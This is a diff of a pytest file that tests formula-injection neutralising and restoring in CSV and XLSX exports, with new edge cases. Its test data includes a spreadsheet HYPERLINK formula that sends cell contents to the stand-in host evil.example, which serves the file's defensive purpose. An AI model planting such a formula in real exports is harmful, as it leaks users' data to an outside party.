@@ -11,7 +11,7 @@ import pytest
 from test_export_standins import SAMPLE_ROWS, VIEW_2023, view_data
 
 from render.exports.data import export_data, xlsx_text
-from render.markup import neutralise
+from render.markup import neutralise, restore
 
 PAYLOADS = {
     "notes": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -45,11 +45,13 @@ def files(tmp_path_factory, data):
     [
         ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
         ("\rx", "'\rx"), ("\nx", "'\nx"), ("\0x", "'\0x"), ("plain", "plain"), ("", ""),
-        ("a=b", "a=b"), (" =1", " =1"), (None, None), (3, 3),
+        ("a=b", "a=b"), (" =1", "' =1"), ("\uff1d1", "'\uff1d1"), ("\u200b+1", "'\u200b+1"),
+        ("'=1+1", "''=1+1"), ("'plain", "''plain"), ("it's", "it's"), (None, None), (3, 3),
     ],
 )  # fmt: skip
 def test_neutralise(text, expected):
     assert neutralise(text) == expected
+    assert restore(neutralise(text)) == text
 
 
 class TestCsv:
@@ -108,9 +110,10 @@ class TestXlsx:
         first = {header[i]: c for i, c in enumerate(sheet[2])}
         assert first["event_id"].value == "dandong-2023"
         for column, payload in PAYLOADS.items():
-            assert first[column].value == xlsx_text(payload)
+            assert first[column].value == xlsx_text("'" + payload)  # the CSV's guard, escaped
             assert first[column].data_type == "s"
-        assert first["source_org"].value == "_x000D_carriage return org"  # OOXML escape of CR
+        assert first["source_org"].value == "'_x000D_carriage return org"  # OOXML escape of CR
+        assert first["place_names"].value == "Dandong" and first["place_names"].data_type == "s"
 
     def test_numeric_columns_are_numeric(self, files, data):
         sheet = openpyxl.load_workbook(files["xlsx"])["events"]
